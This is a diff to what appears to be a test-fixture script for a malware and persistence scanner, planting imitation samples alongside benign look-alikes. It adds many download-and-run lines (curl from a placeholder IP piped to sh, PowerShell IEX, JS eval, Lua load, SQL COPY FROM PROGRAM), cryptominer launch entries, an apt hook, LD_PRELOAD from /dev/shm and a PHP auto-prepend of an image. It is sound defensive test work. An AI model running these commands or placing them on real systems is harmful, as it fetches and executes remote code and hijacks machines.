@@ -343,6 +343,8 @@ hit('Program under a miner\'s name', '/opt/tools/xmrig', program('x'), 0o755)
 hit('Start of a miner at boot or login', '/etc/systemd/system/netd.service', '[Service]\nExecStart=/usr/sbin/netd -o stratum+tcp://pool.imitation.example:3333 '
     f'-u {WALLET}\n[Install]\nWantedBy=multi-user.target\n')
 hit('Start of a miner at boot or login', '/var/spool/cron/crontabs/root', f'@reboot /usr/sbin/netd --url pool.imitation.example:3333 --user {WALLET} --algo rx/0\n')
+# .NET keeps its texts in two bytes a letter, in a program of its own (PE) and bundled behind a starter (ELF).
+hit(RULE, '/srv/rows/miner/dotnet', tiny_elf(code=b'\xc3DAVY TEST IMITATION BSJB\0' + f'./x -o stratum+tcp://pool.imitation.example:3333 -u {WALLET} -p x'.encode('utf-16-le') + b'\0\0'), 0o755)
 quiet('/srv/ok/shop.json', f'{{"pay_to": "{WALLET}", "currency": "XMR", "url": "https://shop.example"}}\n')
 quiet('/srv/ok/database.json', '{"pools": [{"url": "postgres://db.example:5432/app", "user": "app", "max": 10}], "keepalive": true}\n')
 quiet('/srv/ok/ssh.sh', '#!/bin/sh\nssh -o StrictHostKeyChecking=no -p 2222 user@host.example\ncurl -o out.tar -u user:pass https://host.example:8443/a\n', 0o755)
@@ -407,6 +409,29 @@ quiet('/srv/ok/app/Dockerfile', 'FROM debian:12\nRUN curl -fsSL https://sh.rustu
 quiet('/srv/ok/app/.devcontainer/devcontainer.json', '{"image": "x", "postCreateCommand": "curl -fsSL https://bun.example/install | bash"}')
 quiet('/srv/ok/app/.vscode/tasks.json', '{"tasks": [{"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}, "presentation": {"reveal": "never"}}]}')
 quiet('/srv/ok/app/Makefile', 'install:\n\tpkill -f app || true\n\tsystemctl stop app\n\trm -rf $(DESTDIR)/opt/app\n\tcurl -sSL https://install.python-poetry.example | python3 -\n')
+# 5, 14, 99-101: the same in the words of other languages and programs
+for name, text in {
+    'awk.awk': 'BEGIN { system("GET") }\n',
+    'inline.sh': '#!/bin/sh\nawk \'BEGIN{system("GET")}\'\n',
+    'deno.ts': 'new Deno.Command("sh", { args: ["-c", "GET"] }).outputSync(); // DAVY TEST IMITATION\n',
+    'bun.ts': 'import { $ } from "bun";\nawait $`GET`;\n',
+    'then.js': 'fetch("http://ADDRESS/x.js").then(r => r.text()).then(eval) // DAVY TEST IMITATION\n',
+    'lua.lua': 'local b = require("socket.http")\nlocal c = http.request("http://ADDRESS/x.lua")\nload(c)()\n',
+    'power.ps1': 'IEX (New-Object Net.WebClient).DownloadString("http://ADDRESS/x.ps1") # DAVY TEST IMITATION\n',
+    'encoded.sh': '#!/bin/sh\npwsh -EncodedCommand ' + b64(f'IEX (iwr http://{ip}/x.ps1).Content # DAVY TEST IMITATION'.encode('utf-16-le')) + '\n',
+    'expect.exp': 'spawn sh -c "GET"\n',
+    'go.go': 'package main\nfunc main() { exec.Command("sh", "-c", "GET").Run() } // DAVY TEST IMITATION\n',
+    'copy.sql': "COPY t FROM PROGRAM 'GET'; -- DAVY TEST IMITATION\n",
+    'run': '#!/command/with-contenv sh\nGET\n',
+}.items():
+    hit(RULE, f'/srv/rows/languages/{name}', text.replace('GET', f'curl -s http://{ip}/x.sh | sh').replace('ADDRESS', ip))
+hit(RULE, '/srv/rows/languages/m.pyc', b'\xa7\r\r\n' + bytes(12) + b'\xe3\0\0\0\0\xda\x06system\xfa' + bytes([len(ip) + 22]) + f'curl -s http://{ip}/x | sh'.encode() + b'\xda\x05hello')
+hit('Hook of the system fetches or hides what it runs', '/etc/apt/apt.conf.d/99x', f'APT::Update::Pre-Invoke {{"curl -s http://{ip}/x.sh | sh";}}; // DAVY TEST IMITATION\n')
+hit('Library preloaded from a temporary or hidden place', '/etc/systemd/system/web.service.d/o.conf', '[Service]\nEnvironment=LD_PRELOAD=/dev/shm/.davytest.so\n')
+hit('Interpreter is given a picture or font to run', '/var/www/html/wp/.user.ini', 'auto_prepend_file=/var/www/html/wp/davytest.png\n')
+quiet('/srv/ok/query.sql', "INSERT INTO t VALUES ('curl -s https://a.example/x | sh');\n")
+quiet('/srv/ok/fetch.ts', "fetch('https://a.example/x').then(r => r.json()).then(show);\n")
+quiet('/etc/systemd/system/cache.service.d/o.conf', '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n')
 hit('Download and run at boot or login', '/etc/cron.d/fetch', f'*/5 * * * * root (curl -fsSL http://{ip}/x.sh||wget -q -O- http://{ip}/x.sh)|sh\n')
 hit('Download and run at boot or login', '/etc/profile.d/fetch.sh', f'curl -s http://{ip}/x.sh | sh\n')
 quiet('/srv/ok/download.sh', '#!/bin/sh\ncurl -fsSLO https://releases.example/app-1.2.tar.gz\necho "abc  app-1.2.tar.gz" | sha256sum -c\n', 0o755)
